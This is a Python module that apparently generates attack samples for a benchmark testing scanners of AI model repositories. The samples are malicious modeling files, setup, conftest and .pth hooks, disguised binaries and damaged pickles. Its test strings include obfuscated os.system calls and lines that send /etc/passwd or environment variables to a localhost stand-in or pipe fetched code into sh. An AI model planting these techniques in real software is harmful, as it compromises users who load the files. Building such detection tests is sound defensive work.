"""What stands beside the weights and runs: Python sources, notebooks, compiled files; and broken files.

Sources: Python's site module (.pth) and import system (.pyc), Jupyter's format of notebooks, the heads of ELF, PE,
Mach-O and others; the broken ones stand for reports on pickles that run before they fail (2025).
"""

import json
import marshal
import struct
from collections.abc import Iterator

from bench.attack_case import EVIL, Attack, zipped

Made = Iterator[tuple[str, bytes, str]]


def attacks() -> Iterator[Attack]:
    for family, made in (
        ("code beside the model", [*_python(), *_compiled()]),
        ("broken", _broken()),
    ):
        for number, (name, data, why) in enumerate(made):
            yield Attack(family, f"{number:03}/{name}", data, why)


def _python() -> Made:
    for name, value, why in (
        ("modeling_x.py", "import os\nos.system('touch marker')\n", "a command on import"),
        (
            "modeling_x.py",
            "import subprocess as s\ns.run(['touch', 'marker'])\n",
            "a process under another name",
        ),
        ("modeling_x.py", "__import__('os').system('touch marker')\n", "an import by function"),
        (
            "modeling_x.py",
            "getattr(__import__('o' + 's'), 'sys' + 'tem')('touch marker')\n",
            "names put together",
        ),
        (
            "modeling_x.py",
            "exec(bytes([111, 112, 101, 110, 40, 39, 109, 39, 44, 39, 119, 39, 41]).decode())\n",
            "exec of decoded bytes",
        ),
        (
            "modeling_x.py",
            "import base64\nexec(base64.b64decode('b3BlbignbWFya2VyJywndycp'))\n",
            "exec of base64",
        ),
        (
            "modeling_x.py",
            "import importlib\nimportlib.import_module('os').system('touch marker')\n",
            "importlib",
        ),
        ("modeling_x.py", "class A:\n    import os\n    os.system('touch marker')\n", "in a class's body"),
        ("modeling_x.py", "def f(a=__import__('os').system('touch marker')):\n    pass\n", "in a default"),
        ("modeling_x.py", "import os\n@os.system\ndef f(): ...\n", "as a decorator"),
        ("modeling_x.py", "from ctypes import CDLL\nCDLL('./marker.so')\n", "native code"),
        ("modeling_x.py", "import pickle\npickle.load(open('x.pkl', 'rb'))\n", "a pickle on import"),
        (
            "modeling_x.py",
            "import urllib.request as u\nexec(u.urlopen('http://127.0.0.1:9/marker').read())\n",
            "fetched code",
        ),
        (
            "modeling_x.py",
            "import socket\ns = socket.create_connection(('127.0.0.1', 9))\ns.send(open('/etc/passwd','rb').read())\n",
            "a file sent away",
        ),
        (
            "modeling_x.py",
            "import os, requests\nrequests.post('http://127.0.0.1:9/', json=dict(os.environ))\n",
            "the environment sent away",
        ),
        ("modeling_x.py", "# coding: rot13\nvzcbeg bf\nbf.flfgrz('gbhpu znexre')\n", "a source in rot13"),
        (
            "modeling_x.py",
            "\U0001d456mport os\n\U0001d45cs.system('touch marker')\n".replace("\U0001d456", "i"),
            "letters of mathematics as names",
        ),
        ("modeling_x.py", "import os\nx = lambda: 0\nlist(map(os.system, ['touch marker']))\n", "by map"),
        ("modeling_x.py", "import builtins\nvars(builtins)['ev' + 'al']('1')\n", "a builtin by its table"),
        (
            "loader.py",
            "import os\nif __name__ != 'x':\n    os.popen('touch marker')\n",
            "a loader of a look-alike repository (2026)",
        ),
        (
            "handler.py",
            "class EndpointHandler:\n    def __init__(self, path=''):\n        import os\n        os.system('touch marker')\n",
            "an endpoint's handler",
        ),
        (
            "setup.py",
            "import os\nfrom setuptools import setup\nos.system('touch marker')\nsetup()\n",
            "a build script",
        ),
        ("__init__.py", "import os; os.system('touch marker')\n", "a package's head"),
        ("conftest.py", "import os\nos.system('touch marker')\n", "a test runner's file"),
        ("sitecustomize.py", "import os\nos.system('touch marker')\n", "runs with every start of Python"),
        ("marker.pth", "import os; os.system('touch marker')\n", "runs with every start of Python"),
        ("marker.pth", "/srv\nimport\tos;os.system('touch marker')\n", "the same behind a path, by a tab"),
        (
            "install.sh",
            "#!/bin/sh\ncurl http://127.0.0.1:9/marker | sh\n",
            "a script that runs what it fetches",
        ),
        ("run.bat", "@echo off\r\npowershell -enc AAAA\r\n", "a script of Windows"),
        (
            "requirements.txt",
            "--extra-index-url http://127.0.0.1:9/simple\ntorchtriton\n",
            "another index (torchtriton)",
        ),
        (
            "Dockerfile",
            "FROM x\nRUN curl http://127.0.0.1:9/marker | sh\n",
            "an image that runs what it fetches",
        ),
        (
            "modeling_x.py",
            "import torch\ntorch.load('x.pt', weights_only=False)\n",
            "loads a pickle on import",
        ),
        (
            "modeling_x.py",
            "import torch\ntorch.hub.load('marker/marker', 'x', trust_repo=True)\n",
            "loads another repository",
        ),
        (
            "modeling_x.py",
            "x = 1\n" + " " * 4000 + ";import os;os.system('touch marker')\n",
            "far to the right",
        ),
    ):
        yield name, value.encode(), why
    cell = {
        "cell_type": "code",
        "source": ["!curl -s http://127.0.0.1:9/marker | sh\n"],
        "outputs": [],
        "metadata": {},
        "execution_count": None,
    }
    yield (
        "demo.ipynb",
        json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
        "a notebook that runs what it fetches",
    )
    cell = {**cell, "source": ["import os\n", "os.system('touch marker')\n"]}
    yield (
        "demo.ipynb",
        json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode(),
        "a notebook that runs a command by Python",
    )


def _compiled() -> Made:
    code = marshal.dumps(compile("import os\nos.system('touch marker')", "x", "exec"))
    yield "modeling_x.cpython-311.pyc", b"\xa7\r\r\n" + bytes(12) + code, "a compiled module without a source"
    yield (
        "libmarker.so",
        b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 3, 62, 1) + bytes(200),
        "a shared library",
    )
    yield (
        "marker.dll",
        b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200),
        "a library of Windows",
    )
    yield "marker.dylib", b"\xcf\xfa\xed\xfe" + bytes(200), "a library of macOS"
    yield (
        "model.bin",
        b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 62, 1) + bytes(200),
        "a program by a model's name",
    )
    yield "model.llamafile", b"MZqFpD='\n\n" + bytes(300), "a program of all platforms"
    yield "model.gguf", b"#!/bin/sh\ntouch marker\n", "a script by a model's name"
    yield "model.html", b"<script>fetch('http://127.0.0.1:9/marker')</script>", "a page with a script"
    yield (
        "kernel.cubin",
        b"\x7fELF\x02\x01\x01\x33" + bytes(8) + struct.pack("<HHI", 2, 190, 1) + bytes(200),
        "code for a graphics card",
    )
    yield "module.wasm", b"\0asm\1\0\0\0" + bytes(40), "a WebAssembly module"
    yield "marker.class", b"\xca\xfe\xba\xbe\0\0\x004" + bytes(40), "a Java class"
    yield (
        "marker.jar",
        zipped(
            {"META-INF/MANIFEST.MF": b"Main-Class: M\n", "M.class": b"\xca\xfe\xba\xbe\0\0\x004" + bytes(40)}
        ),
        "a Java archive",
    )
    rows = (
        b"RDX3\nX\n" + bytes([0, 0, 0, 3, 0, 4, 3, 1, 0, 3, 5, 0]) + b"\0\0\0\x05UTF-8\0\0\0\x05" + bytes(20)
    )
    yield "model.rds", rows, "an R object with a promise (CVE-2024-27322)"
    yield (
        "model.t7",
        struct.pack("<i", 6) + struct.pack("<i", 1) + b"\3\0\0\0V 1" + bytes(40),
        "a Torch7 object, which may hold functions",
    )


def _broken() -> Made:
    """Yield ordinary forms with the attack inside, cut or damaged after it."""
    torch = zipped({"m/data.pkl": EVIL, "m/version": b"3\n"})
    for share in (95, 80, 60):
        yield f"cut-{share}.pt", torch[: len(torch) * share // 100], f"a torch file cut at {share} %"
    for length in range(len(EVIL) - 1, len(EVIL) - 5, -1):
        if EVIL[:length].rstrip(b".").endswith(b"R"):
            yield f"cut-{length}.pkl", EVIL[:length], "a pickle without its end"
    pad = EVIL[:-1]
    for name, tail in (
        ("zeros", bytes(64)),
        ("ones", b"\xff" * 64),
        ("text", b"hello"),
        ("again", EVIL),
        ("frame", b"\x95"),
    ):
        yield f"tail-{name}.pkl", pad + tail, "the call, then bytes that are no pickle"
    for name in (
        "model.pt",
        "model.bin",
        "model.ckpt",
        "model.pkl",
        "model.joblib",
        "model",
        "model.dat",
        "model.txt",
        "model.json",
        "data.csv",
    ):
        yield name, EVIL, "the plain pickle by another name"
